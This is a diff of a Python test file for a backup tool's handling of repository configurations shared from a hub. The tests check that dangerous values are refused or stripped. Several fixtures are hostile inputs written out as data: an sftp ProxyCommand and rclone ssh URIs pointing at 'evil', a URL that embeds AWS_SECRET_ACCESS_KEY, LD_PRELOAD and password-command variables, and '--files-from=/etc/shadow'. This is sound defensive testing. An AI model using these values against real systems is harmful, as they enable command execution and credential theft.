@@ -85,9 +85,9 @@ def test_a_repo_may_be_renamed_to_what_looks_like_itself_and_to_nothing_that_loo
         (["receive-shared-repos"], {"uri": "/srv/local"}, Why.SAME_ADDRESS),
         (["receive-shared-repos"], {"guid": ""}, Why.NO_GUID),
         (["read-write-config=repo:nas"], {"guid": A}, Why.SAME_GUID),
-        (["receive-shared-repos"], {"uri": "rclone::sftp,ssh=evil:/x"}, Why.RUNS_PROGRAM),
-        (["receive-shared-repos"], {"uri": "rest:https://evil/${AWS_SECRET_ACCESS_KEY}"}, Why.RUNS_PROGRAM),
-        (["receive-shared-repos"], {"uri": "sftp:-oProxyCommand=evil:/x"}, Why.RUNS_PROGRAM),
+        (["receive-shared-repos"], {"uri": "rclone::sftp,ssh=evil:/x"}, Why.NOT_HARMLESS),
+        (["receive-shared-repos"], {"uri": "rest:https://evil/${AWS_SECRET_ACCESS_KEY}"}, Why.NOT_HARMLESS),
+        (["receive-shared-repos"], {"uri": "sftp:-oProxyCommand=evil:/x"}, Why.NOT_HARMLESS),
     ],
 )
 def test_what_is_not_allowed_is_skipped_with_a_reason(
@@ -126,7 +126,7 @@ def test_write_permission_on_a_local_repo_changes_it_and_it_stays_local() -> Non
 
 def test_what_would_run_programs_is_stripped_from_a_shared_repo() -> None:
     message = shared(
-        env=["AWS_KEY=1", "RESTIC_PASSWORD_COMMAND=evil", "LD_PRELOAD=/x", "A=${HOME}"],
+        env=["RESTIC_COMPRESSION=max", "RESTIC_PASSWORD_COMMAND=evil", "LD_PRELOAD=/x", "A=${HOME}"],
         flags=[
             "--no-cache",
             "--header ${SECRET}",
@@ -140,7 +140,11 @@ def test_what_would_run_programs_is_stripped_from_a_shared_repo() -> None:
     here = config()
     report = push(here, ["receive-shared-repos"], message)
     taken = here.repos[1]
-    assert (list(taken.env), list(taken.flags), len(taken.hooks)) == (["AWS_KEY=1"], ["--no-cache"], 0)
+    assert (list(taken.env), list(taken.flags), len(taken.hooks)) == (
+        ["RESTIC_COMPRESSION=max"],
+        ["--no-cache"],
+        0,
+    )
     assert not taken.HasField("command_prefix")
     assert report.refused[0].code is Why.LEFT_OUT
     assert "hooks" in report.refused[0].words()
@@ -149,6 +153,86 @@ def test_what_would_run_programs_is_stripped_from_a_shared_repo() -> None:
     trusted = config()
     push(trusted, ["receive-shared-repos", "read-write-config=*"], message)
     assert len(trusted.repos[1].hooks) == 1
+
+
+def used() -> wire.config.Config:
+    """A shared repo that a plan here uses."""
+    here = config()
+    push(here, ["receive-shared-repos"], shared(uri="rest:https://u:a@one/x", flags=["--no-cache"]))
+    here.plans.add(id="mine", repo="nas", paths=["/srv"])
+    return here
+
+
+MOVED = {"uri": "rest:https://u:a@one/y", "flags": ["--no-cache"]}
+
+
+def test_a_change_of_the_address_of_a_repo_in_use_waits_and_the_rest_is_taken() -> None:
+    here = used()
+    report = push(here, ["receive-shared-repos"], shared(**MOVED, password="new", env=["RESTIC_PACK_SIZE=8"]))
+    now = here.repos[1]
+    assert (now.uri, list(now.env), now.password) == ("rest:https://u:a@one/x", [], "new")
+    assert report.refused == [refusal("repo", "nas", Why.WAITS, names=["address", "environment"])]
+    assert report.told == report.refused
+    assert report.done == 1
+    wanted = report.waits[B]
+    assert wanted is not None
+    assert (wanted.origin, wanted.uri, wanted.env) == ("hub", MOVED["uri"], ("RESTIC_PACK_SIZE=8",))
+    assert wanted.flags == ("--no-cache",)
+
+
+def test_flags_wait_by_themselves_and_nothing_waits_when_the_hub_goes_back() -> None:
+    here = used()
+    moved = shared(uri="rest:https://u:b@two/x", flags=["--limit-upload=1"])
+    report = push(here, ["receive-shared-repos"], moved)
+    assert (here.repos[1].uri, list(here.repos[1].flags)) == ("rest:https://u:b@two/x", ["--no-cache"])
+    assert report.refused == [refusal("repo", "nas", Why.WAITS, names=["flags"])]
+    report = push(here, ["receive-shared-repos"], shared(uri="rest:https://u:b@two/x", flags=["--no-cache"]))
+    assert (report.waits, report.refused, report.changed) == ({B: None}, [], False)
+
+
+def test_nothing_waits_for_a_repo_that_no_plan_uses_or_whose_hub_may_write_it() -> None:
+    here = used()
+    report = push(here, ["receive-shared-repos", "read-write-config"], shared(**MOVED))
+    assert (here.repos[1].uri, report.waits, report.refused) == (MOVED["uri"], {B: None}, [])
+    here = used()
+    here.plans.pop()
+    report = push(here, ["receive-shared-repos"], shared(**MOVED))
+    assert (here.repos[1].uri, report.waits, report.refused) == (MOVED["uri"], {B: None}, [])
+
+
+def test_what_waits_must_be_harmless_and_have_a_place_of_its_own() -> None:
+    for uri, why in (("rclone:x", Why.NOT_HARMLESS), ("/srv/local", Why.SAME_ADDRESS)):
+        here = used()
+        before = wire.config.Config.FromString(here.SerializeToString())
+        report = push(here, ["receive-shared-repos"], shared(uri=uri))
+        assert [one.code for one in report.refused] == [why]
+        assert (report.waits, here) == ({}, before)
+
+
+def test_a_repo_in_use_from_before_the_rules_loses_what_may_do_harm_without_waiting() -> None:
+    here = used()
+    here.repos[1].flags.append("--files-from=/etc/shadow")
+    here.repos[1].env.append("LD_PRELOAD=/x")
+    report = push(here, ["receive-shared-repos"], shared(uri="rest:https://u:a@one/x", flags=["--no-cache"]))
+    assert (list(here.repos[1].flags), list(here.repos[1].env)) == (["--no-cache"], [])
+    assert (report.refused, report.waits) == ([], {B: None})
+
+
+@pytest.mark.parametrize("trusted", [True, False])
+def test_a_bad_flag_costs_its_item_and_no_other(trusted: bool) -> None:
+    here = config()
+    message = shared(flags=["/etc/shadow"])
+    message.plans.add(id="bad", repo="local", paths=["/srv"], backup_flags=["/etc/shadow"])
+    message.plans.add(id="good", repo="local", paths=["/srv"], backup_flags=["-x"])
+    grants = ["receive-shared-repos", "read-write-config" if trusted else "read-write-config=plan:good"]
+    report = push(here, grants, message)
+    assert [plan.id for plan in here.plans] == ["photos", "good"]
+    codes = [one.code for one in report.refused]
+    if trusted:
+        assert codes == [Why.BAD_FLAG, Why.BAD_FLAG]
+    else:
+        assert codes == [Why.WRITE_NOT_GRANTED, Why.LEFT_OUT]
+        assert not here.repos[1].flags
 
 
 def test_a_client_of_ours_shares_nothing_with_us_and_writes_local_repos_where_it_may() -> None:
@@ -218,9 +302,10 @@ def test_a_peer_can_fill_the_configuration_to_the_bound_and_no_further(
 def test_a_hub_that_shares_without_end_is_refused_item_by_item() -> None:
     """Attack: a thousand repos of the largest size are more than is read back of a file; then no daemon starts."""
     here = config()
+    large = wire.config.CheckPolicy(schedule=wire.config.Schedule(cron="y" * 250_000))
     for part in range(2):
         repos = [
-            Repo(id=f"r{part}-{n}", guid=f"{part}{n:063}", uri=f"/{part}/{n}", env=["A=" + "y" * 250_000])
+            Repo(id=f"r{part}-{n}", guid=f"{part}{n:063}", uri=f"/{part}/{n}", check_policy=large)
             for n in range(70)
         ]
         report = push(here, ["receive-shared-repos"], SetConfig(repos=repos))
